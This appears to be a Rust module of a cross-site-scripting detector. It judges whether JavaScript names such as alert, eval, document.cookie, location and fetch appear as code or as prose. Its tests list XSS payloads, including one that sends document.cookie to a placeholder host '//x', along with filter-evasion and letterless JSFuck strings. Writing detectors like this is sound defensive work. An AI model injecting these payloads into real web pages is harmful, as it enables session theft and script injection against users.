//! JavaScript that reads, writes or calls what an attack is after: dialogs, evaluation, cookies, the location.
//!
//! Names are found in the field and judged by what stands around them: a call, an assignment, an index. Prose has
//! a space before a bracket and words in it; code has not.

use super::Evidence;
use crate::decode::marks;

/// Names that are looked at, and the runs of brackets of code without letters.
pub(super) const LITERALS: &[&str] = &[
    "alert",
    "confirm",
    "prompt",
    "eval",
    "settimeout",
    "setinterval",
    "execscript",
    "function",
    "constructor",
    "fromcharcode",
    "atob",
    "unescape",
    "document",
    "window.",
    "window[",
    "window(",
    "window)",
    "window,",
    "window;",
    "window ",
    "window=",
    "window`",
    "window\"",
    "window'",
    "window?",
    "location",
    "localstorage",
    "sessionstorage",
    "innerhtml",
    "outerhtml",
    "xmlhttprequest",
    "sendbeacon",
    "importscripts",
    "activexobject",
    "fetch(",
    "fetch`",
    "import(",
    "self[",
    "top[",
    "this[",
    "parent[",
    "frames[",
    "globalthis",
    "onerror=",
    "srcdoc",
    "[][",
    "![]",
    "!![]",
    "reflect.",
    "getscript",
    "vibrate(",
    "'al",
    "\"al",
];

/// Brackets and signs in a row that make code without letters.
const LETTERLESS: usize = 16;

/// Script that an attack runs.
pub(super) fn certain(text: &[u8]) -> Option<Evidence> {
    let mut run = 0;
    let mut at = 0;
    while let Some(&byte) = text.get(at) {
        if starts_name(byte) && (at == 0 || !is_name(text[at - 1])) {
            let name = Name::read(text, at);
            if let Some(label) = name.judge() {
                return Some(Evidence {
                    start: at,
                    end: (name.end + 24).min(text.len()),
                    label,
                });
            }
            at = name.end;
            run = 0;
            continue;
        }
        run = if BRACKETS[usize::from(byte)] { run + 1 } else { 0 };
        if run >= LETTERLESS && run.is_multiple_of(8) && letterless(&text[at + 1 - run..=at]) {
            return Some(Evidence {
                start: at + 1 - run,
                end: at + 1,
                label: "code without letters",
            });
        }
        at += 1;
    }
    None
}

/// `(![]+[])[+[]]`: conversions of empty arrays, which spell any string.
fn letterless(run: &[u8]) -> bool {
    let window = &run[run.len() - LETTERLESS..];
    let pairs = window
        .windows(2)
        .filter(|pair| {
            matches!(
                pair,
                [b'[', b']'] | [b'!' | b'+', b'['] | [b']' | b'!', b'+'] | [b'{', b'}']
            )
        })
        .count();
    pairs >= 5 && window.contains(&b'+') && window.contains(&b'[')
}

/// Bytes of which code without letters is made.
const BRACKETS: [bool; 256] = marks(b"[]()!+{}/\"'$_");
const NAME: [bool; 256] = marks(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_$");

fn starts_name(byte: u8) -> bool {
    is_name(byte) && !byte.is_ascii_digit()
}

fn is_name(byte: u8) -> bool {
    NAME[usize::from(byte)]
}

/// A name and what stands around it.
struct Name<'a> {
    text: &'a [u8],
    start: usize,
    end: usize,
}

impl<'a> Name<'a> {
    fn read(text: &'a [u8], start: usize) -> Self {
        let length = text[start..].iter().take_while(|byte| is_name(**byte)).count();
        Self {
            text,
            start,
            end: start + length,
        }
    }

    fn rest(&self) -> &'a [u8] {
        &self.text[self.end..]
    }

    fn before(&self) -> Option<u8> {
        self.start.checked_sub(1).map(|at| self.text[at])
    }

    fn judge(&self) -> Option<&'static str> {
        const LONGEST: usize = 16;
        const SHORTEST: usize = 3;
        let name = &self.text[self.start..self.end];
        if name.len() < SHORTEST {
            return None;
        }
        let mut folded = [0; LONGEST];
        let folded = folded.get_mut(..name.len())?;
        folded.copy_from_slice(name);
        folded.make_ascii_lowercase();
        let found = |proof: bool, label| proof.then_some(label);
        match &*folded {
            b"alert" | b"confirm" | b"prompt" => found(self.called() || self.passed(), "dialog"),
            b"vibrate" => found(self.before() == Some(b'.') && self.called(), "dialog"),
            b"eval" | b"execscript" => found(self.evaluates() || self.passed(), "evaluated code"),
            b"settimeout" | b"setinterval" | b"setimmediate" => {
                found(self.called_with_text() || self.opens(b'`'), "evaluated code")
            }
            b"function" => found(
                self.before_word(b"new") && self.called_with_text() || self.opens(b'`'),
                "evaluated code",
            ),
            b"fromcharcode" => found(self.opens(b'('), "string spelt in numbers"),
            b"atob" | b"unescape" => found(self.called_with_text() || self.opens(b'`'), "decoded string"),
            b"constructor" => found(self.constructs(), "constructor reached from an object"),
            b"document" => found(self.member(&DOCUMENT), "document"),
            b"window" | b"self" | b"top" | b"parent" | b"frames" | b"globalthis" | b"this" | b"opener" => {
                found(
                    self.member(&WINDOW) && self.before() != Some(b'.') || self.indexed_by_text(),
                    "window",
                )
            }
            b"location" => found(self.relocates(), "location"),
            b"localstorage" | b"sessionstorage" => found(self.member(&STORAGE), "storage"),
            b"innerhtml" | b"outerhtml" => {
                found(self.before() == Some(b'.') && self.assigned(), "markup written")
            }
            b"onerror" | b"onload" => found(self.assigns_sink(), "handler assigned"),
            b"xmlhttprequest" => found(self.before_word(b"new"), "request sent"),
            b"activexobject" | b"importscripts" | b"sendbeacon" | b"getscript" => {
                found(self.opens(b'('), "request sent")
            }
            b"fetch" | b"import" => found(
                self.before() != Some(b'.') && self.called_with_address(),
                "request sent",
            ),
            b"reflect" => found(self.followed(&[b".call", b".apply", b".construct"]), "reflection"),
            b"ert" => found(
                self.start >= 4 && self.text[..self.start].ends_with(b"'+'"),
                "dialog",
            ),
            _ => None,
        }
    }

    /// What comes after comments.
    fn after_comments(&self) -> &'a [u8] {
        let mut rest = self.rest();
        for _ in 0..4 {
            match rest {
                [b'/', b'*', body @ ..] => {
                    let window = &body[..body.len().min(64)];
                    let Some(length) = memchr::memmem::find(window, b"*/") else {
                        return rest;
                    };
                    rest = &body[length + 2..];
                }
                [b'?', b'.', tail @ ..] => rest = tail,
                _ => return rest,
            }
        }
        rest
    }

    fn opens(&self, bracket: u8) -> bool {
        self.after_comments().first() == Some(&bracket)
    }

    /// The first byte of the argument of a call.
    fn argument(&self) -> Option<&'a [u8]> {
        let rest = self.after_comments();
        let spaced = rest.first() == Some(&b' ');
        let argument = rest.trim_ascii_start().strip_prefix(b"(")?;
        let inner = argument.trim_ascii_start();
        // `alert (always)` is prose, `alert (1)` is not.
        let code = matches!(inner.first(), Some(b'\'' | b'"' | b'`' | b'0'..=b'9' | b'/'));
        (!spaced || code).then_some(inner)
    }

    /// A call with an argument that somebody shows.
    fn called(&self) -> bool {
        let rest = self.after_comments();
        if rest.first() == Some(&b'`') {
            // In Markdown, the end of code.
            return self.before() != Some(b'`');
        }
        if [&b".call("[..], b".apply(", b".bind(", b"&lpar", b"&#40", b"&#x28"]
            .iter()
            .any(|next| rest.starts_with(next))
        {
            return true;
        }
        let Some(argument) = self.argument() else {
            return false;
        };
        let name = argument.iter().take_while(|byte| is_name(**byte)).count();
        match argument {
            [
                b'\'' | b'"' | b'`' | b'/' | b'0'..=b'9' | b'[' | b'(' | b'!' | b'-' | b'+' | b'~',
                ..,
            ] => true,
            _ if name > 0 => {
                // A parameter is declared by `confirm(message: string)`, a sentence goes on after a space.
                let known = [
                    &b"document"[..],
                    b"window",
                    b"location",
                    b"this",
                    b"self",
                    b"string",
                    b"origin",
                    b"name",
                    b"xss",
                    b"cookie",
                    b"top",
                    b"domain",
                ];
                known
                    .iter()
                    .any(|known| argument[..name].eq_ignore_ascii_case(known))
                    || (name <= 3 && argument.get(name) == Some(&b')'))
                    || matches!(argument.get(name), Some(b'.' | b'(' | b'['))
            }
            _ => false,
        }
    }

    /// The function itself is handed on: `[1].find(alert)`, `x=alert;`, `(alert)(1)`, `top['alert']`.
    fn passed(&self) -> bool {
        let after = self.rest();
        match self.before() {
            Some(b'(') => {
                matches!(after, [b')', b'(' | b'`', ..])
                    || (matches!(after, [b')' | b',', ..]) && self.callee())
            }
            Some(b'=') => matches!(after, [b',' | b';', ..]) || after.starts_with(b"\nthrow"),
            Some(b'\'' | b'"' | b'`') => {
                let opened = self.start >= 2 && self.text[self.start - 2] == b'[';
                opened && matches!(after, [b'\'' | b'"' | b'`', b']', ..])
            }
            _ => false,
        }
    }

    /// The bracket before the name belongs to a call of an array's method.
    fn callee(&self) -> bool {
        const METHODS: [&[u8]; 8] = [
            b"find(",
            b"map(",
            b"filter(",
            b"foreach(",
            b"some(",
            b"every(",
            b"findindex(",
            b"from(",
        ];
        METHODS.iter().any(|method| {
            self.start
                .checked_sub(method.len())
                .is_some_and(|from| self.text[from..self.start].eq_ignore_ascii_case(method))
        })
    }

    fn called_with_text(&self) -> bool {
        matches!(self.argument(), Some([b'\'' | b'"' | b'`', ..]))
            || matches!(self.argument(), Some(argument) if ["alert", "confirm", "prompt", "eval", "atob", "location", "string."]
                .iter()
                .any(|sink| argument.get(..sink.len()).is_some_and(|start| start.eq_ignore_ascii_case(sink.as_bytes()))))
    }

    fn evaluates(&self) -> bool {
        if self.before() == Some(b'.') && !self.text[..self.start].ends_with(b"window.") {
            return false;
        }
        self.opens(b'`') && self.before() != Some(b'`')
            || self.called_with_text()
            || matches!(self.argument(), Some([b'(' | b'[' | b'/' | b'+' | b'!', ..]))
            || matches!(self.argument(), Some(argument) if [&b"name"[..], b"document", b"location", b"unescape", b"self", b"this", b"window", b"decodeuri"]
                .iter()
                .any(|source| argument.get(..source.len()).is_some_and(|start| start.eq_ignore_ascii_case(source))))
            || self.followed(&[b".call", b".apply"])
    }

    fn called_with_address(&self) -> bool {
        if self.opens(b'`') {
            return true;
        }
        let Some([b'\'' | b'"' | b'`', address @ ..]) = self.argument() else {
            return false;
        };
        [&b"//"[..], b"http:", b"https:", b"data:", b"\\\\"]
            .iter()
            .any(|start| address.starts_with(start))
    }

    fn constructs(&self) -> bool {
        let after = self.after_comments();
        let dotted = self.before() == Some(b'.');
        let chained = [&b".constructor"[..], b"[\"constructor\"]", b"['constructor']"]
            .iter()
            .any(|next| after.starts_with(next));
        let called = dotted && matches!(after, [b'(', b'\'' | b'"' | b'`' | b'a'..=b'z', ..] | [b'`', ..]);
        let quoted = matches!(self.before(), Some(b'\'' | b'"' | b'`'))
            && self.start >= 2
            && self.text[self.start - 2] == b'[';
        chained || called || quoted
    }

    fn followed(&self, nexts: &[&[u8]]) -> bool {
        nexts.iter().any(|next| {
            self.rest()
                .get(..next.len())
                .is_some_and(|start| start.eq_ignore_ascii_case(next))
        })
    }

    /// `.member` or `['member']`.
    fn member(&self, members: &[&[u8]]) -> bool {
        let rest = self.after_comments();
        let ([b'.', name @ ..] | [b'[', b'\'' | b'"' | b'`', name @ ..] | [b' ', b'.', name @ ..]) = rest
        else {
            return false;
        };
        let length = name.iter().take(24).take_while(|byte| is_name(**byte)).count();
        members
            .iter()
            .any(|member| name[..length].eq_ignore_ascii_case(member))
    }

    /// `self['al'+'ert']`, `top[/al/.source]`.
    fn indexed_by_text(&self) -> bool {
        let [b'[', index @ ..] = self.after_comments() else {
            return false;
        };
        match index {
            [b'/' | b'(', ..] => true,
            [quote @ (b'\'' | b'"' | b'`'), tail @ ..] => {
                let close = tail.iter().take(24).position(|byte| byte == quote);
                matches!(close.and_then(|at| tail.get(at + 1)), Some(b'+'))
                    || matches!(
                        close.and_then(|at| tail.get(at + 1..at + 3)),
                        Some([b']', b'(' | b'`'])
                    )
            }
            _ => false,
        }
    }

    fn relocates(&self) -> bool {
        let rest = self.rest();
        if let [b'=', value @ ..] = rest {
            let own = self.before().is_none_or(|byte| {
                matches!(
                    byte,
                    b'.' | b';' | b'(' | b'{' | b',' | b'\'' | b'"' | b'/' | b':' | b'>' | b' '
                )
            });
            let value = value.trim_ascii_start();
            return own
                && (matches!(value.first(), Some(b'\'' | b'"' | b'`' | b'(' | b'[' | b'/'))
                    || [&b"name"[..], b"javascript:", b"atob", b"document", b"location"]
                        .iter()
                        .any(|start| value.starts_with(start)));
        }
        let assigned = [&b".href="[..], b".href =", b".assign(", b".replace("]
            .iter()
            .any(|next| rest.starts_with(next));
        let read = self.before() == Some(b'(') && rest.starts_with(b".hash");
        assigned || read
    }

    fn assigned(&self) -> bool {
        let rest = self.rest().trim_ascii_start();
        matches!(rest, [b'=', next, ..] | [b'+', b'=', next, ..] if *next != b'=')
    }

    fn assigns_sink(&self) -> bool {
        let [b'=', value @ ..] = self.rest() else {
            return false;
        };
        ["alert", "eval", "confirm", "prompt"]
            .iter()
            .any(|sink| value.starts_with(sink.as_bytes()))
    }

    fn before_word(&self, word: &[u8]) -> bool {
        let before = self.text[self.start.saturating_sub(word.len() + 4)..self.start].trim_ascii_end();
        before
            .len()
            .checked_sub(word.len())
            .is_some_and(|from| before[from..].eq_ignore_ascii_case(word))
    }
}

const DOCUMENT: [&[u8]; 12] = [
    b"cookie",
    b"write",
    b"writeln",
    b"domain",
    b"location",
    b"referrer",
    b"url",
    b"documenturi",
    b"implementation",
    b"execcommand",
    b"open",
    b"forms",
];
const WINDOW: [&[u8]; 12] = [
    b"alert",
    b"confirm",
    b"prompt",
    b"eval",
    b"open",
    b"name",
    b"onerror",
    b"settimeout",
    b"execscript",
    b"opener",
    b"document",
    b"location",
];
const STORAGE: [&[u8]; 3] = [b"getitem", b"setitem", b"key"];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn script() {
        let table = [
            "alert(1)",
            "';alert(1)//",
            "(confirm)`1`",
            "top['alert'](1)",
            "prompt(document.cookie)",
            "[1].find(alert)",
            "alert/**/(1)",
            "eval('ale'+'rt(1)')",
            "String.fromCharCode(88,83)",
            "[].constructor.constructor('alert(1)')()",
            "new Image().src='//x?'+document.cookie",
            "window.location='//x'",
            "self['ale'+'rt'](1)",
            "setTimeout`alert\\x281\\x29`",
            "onerror=alert;throw 1",
            "location='javascript:x'",
            "fetch('//x')",
            "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]",
            "x.innerHTML='<b>'",
            "''['constructor']['constructor']('x')",
            "import('//x')",
            "setTimeout('x',1)",
            "new Function('x')()",
            "\"-confirm(1)-\"",
            "alert?.(1)",
            "${alert(1)}",
        ];
        for text in table {
            assert!(certain(text.as_bytes()).is_some(), "{text}");
        }
    }

    #[test]
    fn prose_and_code() {
        let table = [
            "stay alert (always)",
            "confirm password",
            "a prompt reply",
            "the document cookie law",
            "window open",
            "parent document",
            "evaluate (this)",
            "set timeout to 5",
            "functional (tests)",
            "the location: here",
            "`set_mark`, `alert`",
            "function(){var a=1;return a}",
            "document the code",
            "window.requestAnimationFrame(f)",
            "location=Berlin",
            "[[1,2],[3,4]]",
            "a constructor(x)",
            "fn confirm(message: &str)",
            "((a+b)*(c+d))",
            "",
        ];
        for text in table {
            assert_eq!(certain(text.as_bytes()), None, "{text}");
        }
    }
}
